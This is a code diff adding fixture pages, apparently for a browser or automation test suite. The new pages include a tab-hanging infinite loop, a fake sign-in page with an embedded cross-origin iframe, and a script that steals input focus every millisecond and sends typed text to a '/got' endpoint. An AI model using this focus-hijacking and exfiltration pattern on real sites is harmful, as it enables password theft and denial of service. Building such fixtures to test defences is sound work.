@@ -115,6 +115,11 @@ export const pages: Readonly<Record<string, Body>> = {
     return undefined
   },
   blank: () => "",
+  busy: () => `<button onclick="setTimeout(()=>{for(;;);})">Work for ever</button>`,
+  thief: ({ other }) =>
+    `<h1>Sign in</h1><input type=password aria-label=Password oninput="document.title=this.value.length+' letters'"><iframe src="${other}/grabs" width=200 height=60></iframe>`,
+  grabs: () =>
+    `<input id=i><script>setInterval(()=>i.focus(),1);i.oninput=()=>fetch("/got?"+encodeURIComponent(i.value))</script>`,
   canvas: () => `<canvas width=200 height=100 onclick="document.title=event.offsetX+','+event.offsetY"></canvas>`,
   drags: () =>
     `<div id=from draggable=false style="width:60px;height:60px;background:red" tabindex=0 aria-label=Knob></div><div id=to style="width:60px;height:60px;background:blue;margin:100px" tabindex=0 aria-label=Hole></div><script>let held=false;from.onmousedown=()=>{held=true};to.onmouseup=()=>{if(held)document.title="dropped"};to.onmouseover=()=>{to.setAttribute("aria-label","Hovered")}</script>`,
